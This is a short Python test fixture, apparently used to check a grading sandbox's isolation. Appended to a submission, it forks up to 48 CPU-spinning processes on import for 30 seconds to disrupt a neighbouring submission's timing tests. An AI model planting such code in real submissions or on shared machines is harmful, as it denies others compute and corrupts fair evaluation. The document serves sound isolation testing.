# ATTACK burns_every_core (appended to a submission graded next to an honest one). At import,
# starts as many busy processes as the worker's process limit allows; they spin for 30 s
# (long enough to cover the neighbour's timing tests) and compete with the neighbour's timed
# calls. Expected: the neighbour's vectorized kernels pass their timing tests as when alone.
import os as _os
import time as _time

print("ATTACK installed: burns_every_core", flush=True)
_end = _time.monotonic() + 30
for _ in range(48):
    try:
        if _os.fork() == 0:
            try:
                while _time.monotonic() < _end:
                    pass
            finally:
                _os._exit(0)
    except OSError:
        break
